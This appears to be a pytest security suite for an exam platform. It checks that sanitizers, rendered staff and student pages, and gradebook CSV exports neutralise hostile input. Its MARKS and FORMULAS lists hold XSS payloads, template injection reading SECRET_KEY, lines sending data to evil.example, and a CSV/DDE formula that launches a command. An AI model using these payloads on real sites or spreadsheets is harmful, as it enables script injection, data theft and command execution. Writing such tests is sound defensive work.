"""Does anything that somebody types become markup, a script or a formula for somebody else?"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from typing import Any, cast

import pytest
from lxml import etree, html

from exams.authoring.typesetting import Typesetter
from exams.content.cells import neutral
from exams.content.sanitize import sanitized
from exams.models import Accommodation, Attempt, Choice, Course, Question, Quiz, Section, User
from exams.rules.paper import Key, Paper
from grading.marking.pipeline import grade_waiting
from grading.results.releasing import release_results
from grading.results.sheet import Shown
from tests.cast import CLAIM, Begin, Page, make_edition, make_sitting, small_key, small_paper
from tests.security.conftest import SignedIn

FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1", "\u00a0=cmd|' /C calc'!A0")
MARKS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math href='javascript:alert(1)'><mi>x</mi></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![\" onerror=alert(1) x=\"](figure:dog)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<form action=https://evil.example><input name=q></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>*{display:none}</style>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p id=boot>clobbered</p><a name=documentElement>x</a>",
    "<div class='modal show sheet' hidden>x</div>",
    "--></title></textarea></select><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }}{% include 'x' %}",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<script>alert(1)</script>}$",
    "$\\style{position:fixed}{x}$",
    "`<script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<x/><![CDATA[<script>alert(1)</script>]]>",
)  # fmt: skip
HOSTILE_TAGS = {"iframe", "object", "embed", "base", "form", "input", "style", "meta", "link", "svg", "annotation-xml"}


def dangers(fragment: str) -> list[str]:
    """What in this piece of HTML could run, load, cover or send something."""
    root = html.fragment_fromstring(fragment, create_parent="div")
    return list(_dangers(root))


def _dangers(root: etree._Element) -> Iterator[str]:
    for element in root.iter(etree.Element):
        yield from (str(element.tag) for _ in range(element.tag in HOSTILE_TAGS | {"script"}))
        for name, value in element.attrib.items():
            address = "".join(str(value).split()).lower()
            runs = str(name).startswith("on") or address.startswith(("javascript:", "data:text", "vbscript:"))
            yield from (f"{element.tag}.{name}" for _ in range(runs or name in ("style", "id", "name", "srcdoc")))
        far = element.tag == "img" and not str(element.get("src", "/figures/")).startswith("/figures/")
        yield from ("img.src" for _ in range(far))


@pytest.mark.parametrize("mark", MARKS)
def test_what_authors_write_becomes_harmless(mark: str) -> None:
    rendered = [sanitized(mark), Typesetter({}).block(mark).html, Typesetter({}).inline(mark).html]
    assert [dangers(text) for text in rendered] == [[], [], []]


def ours(page: bytes) -> list[str]:
    """Scripts, handlers and frames on a whole page that are not the site's own."""
    root = html.document_fromstring(page.decode())
    bad = [
        etree.tostring(e)[:80].decode()
        for e in root.iter("script")
        if not str(e.get("src", "/static/")).startswith(("/static/", "/admin/jsi18n/"))
        or (not e.get("src") and e.get("type") != "application/json")
    ]
    bad += [f"{e.tag}.{name}" for e in root.iter(etree.Element) for name in e.attrib if str(name).startswith("on")]
    bad += [f"{e.tag}.style" for e in root.iter(etree.Element) if e.get("style")]
    bad += [str(e.tag) for e in root.iter("iframe", "object", "embed", "base")]
    bad += [str(e.get("href")) for e in root.iter("a") if "script:" in "".join(str(e.get("href", "")).split())]
    return bad


EVERY = "\n\n".join(MARKS)
SHORT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>\"' onfocus=alert(1) x="


def hostile_paper() -> Paper:
    """The small paper with every text as the worst that an author could get past the check."""
    block, inline = Typesetter({}).block(EVERY).html, [Typesetter({}).inline(mark).html for mark in MARKS]
    paper: Any = small_paper(
        course_code=SHORT, course_title=SHORT, term=SHORT, title=SHORT, instructions_html=block,
        materials_html=inline, honor_statement_html=block,
    )  # fmt: skip
    for section in paper["sections"]:
        section |= {"title": SHORT, "instructions_html": block}
        for question in section["questions"]:
            question["prompt_html"] = block
    for place, choice in enumerate(paper["sections"][1]["questions"][1]["choices"]):
        choice["html"] = inline[place]
    return cast("Paper", paper)


def hostile_key() -> Key:
    key: Any = small_key()
    block = Typesetter({}).block(EVERY).html
    for question in key["questions"].values():
        question["solution_html"] = block
        for choice in question["choices"].values():
            choice["rationale_html"] = block
    return cast("Key", key)


@pytest.fixture
def hostile(course: Course, quiz: Quiz, cleo: User, ada: User, bo: User, begin: Begin) -> Attempt:
    """A running attempt in which everybody typed the worst they could wherever they could."""
    Course.objects.filter(pk=course.pk).update(code=SHORT[:20], title=SHORT, term=SHORT[:20])
    User.objects.filter(pk__in=[ada.pk, bo.pk, cleo.pk]).update(full_name=SHORT)
    quiz.title, quiz.instructions, quiz.materials, quiz.honor_statement = SHORT, EVERY, EVERY, EVERY
    quiz.save()
    section = Section.objects.create(quiz=quiz, title=SHORT, instructions=EVERY)
    shown = {"points": 4, "prompt": EVERY, "solution": EVERY}
    Question.objects.create(section=section, kind="true_false", truth=True, **shown)
    select = Question.objects.create(section=section, position=1, kind="select_one", **shown)
    Choice.objects.create(question=select, text=EVERY, correct=True, rationale=EVERY)
    for person in (ada, bo, cleo):
        person.refresh_from_db()
    sitting = make_sitting(make_edition(quiz, cleo, hostile_paper(), hostile_key()), name=SHORT, room=SHORT)
    page = Page(begin(ada, at=sitting))
    event = {"kind": "paste", "at": 1, "data": {SHORT[:60]: SHORT[:60]}}
    page.sync(page.item(CLAIM, ["true"], EVERY[:1_500]), events=[event])
    page.attempt.messages.create(text=SHORT, sent_at=page.attempt.started_at, sent_by=bo)
    return page.attempt


STAFFS = ("/", "/sittings/{s}/", "/sittings/{s}/room?who={a}", "/attempts/{a}/time", "/sittings/{s}/late-saves",
          "/courses/{c}/accommodations", "/review/", "/review/{s}/{q}/", "/sittings/{s}/gradebook",
          "/sittings/{s}/statistics", "/sittings/{s}/release", "/sittings/{s}/regrade", "/attempts/{a}/audit",
          "/attempts/{a}/result", "/attempts/{a}/receipt", "/admin/", "/admin/exams/quiz/{z}/change/",
          "/admin/exams/edition/{e}/change/", "/admin/exams/attempt/{a}/change/", "/admin/exams/quiz/",
          "/admin/exams/sitting/{s}/change/", "/admin/exams/section/", "/admin/exams/user/")  # fmt: skip


@pytest.mark.django_db
def test_a_paper_full_of_hostile_texts_runs_nothing(hostile: Attempt, ada: User, signed_in: SignedIn) -> None:
    client = signed_in(ada)
    pages = [client.get(path) for path in ("/", f"/sittings/{hostile.sitting_id}/", f"/attempts/{hostile.pk}/")]
    assert [(page.status_code, ours(page.content)) for page in pages] == [(200, [])] * 3


@pytest.mark.django_db
def test_no_page_runs_what_somebody_typed(hostile: Attempt, ada: User, cleo: User, signed_in: SignedIn) -> None:
    Page(hostile).submit()
    Accommodation.objects.create(course=hostile.sitting.quiz.course, user=ada, factor=2, reason=SHORT)
    grade_waiting()
    everything = Shown(answers=True, key=True, solutions=True, comments=True)
    release_results(hostile.sitting, everything, by=cleo)
    names = {
        "s": hostile.sitting_id, "a": hostile.pk, "c": hostile.sitting.quiz.course_id, "z": hostile.sitting.quiz_id,
        "e": hostile.edition_id, "q": CLAIM,
    }  # fmt: skip
    client = signed_in(cleo)
    pages = {path: client.get(path.format(**names)) for path in STAFFS}
    assert {path: page.status_code for path, page in pages.items() if page.status_code != 200} == {}
    assert {path: ours(page.content) for path, page in pages.items() if ours(page.content)} == {}
    result = signed_in(ada).get(f"/attempts/{hostile.pk}/result")
    assert (result.status_code, ours(result.content)) == (200, [])


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_is_never_a_formula(formula: str) -> None:
    assert neutral(formula).startswith("'")


@pytest.mark.django_db
@pytest.mark.parametrize("formula", FORMULAS)
@pytest.mark.parametrize("shape", [".csv", "/canvas.csv", "/gradescope.csv"])
def test_no_file_of_the_gradebook_holds_a_formula(
    graded: Attempt, cleo: User, signed_in: SignedIn, formula: str, shape: str
) -> None:
    User.objects.filter(pk=graded.student_id).update(full_name=f"{formula}, {formula}")
    answer = signed_in(cleo).get(f"/sittings/{graded.sitting_id}/gradebook{shape}")
    cells = [cell for row in csv.reader(io.StringIO(answer.content.decode(), newline="")) for cell in row]
    starts = tuple("=+-@\t\r＝＋－＠")
    assert [cell for cell in cells if cell.strip(" \u00a0").startswith(starts)] == []
    assert answer["Content-Disposition"].startswith("attachment")
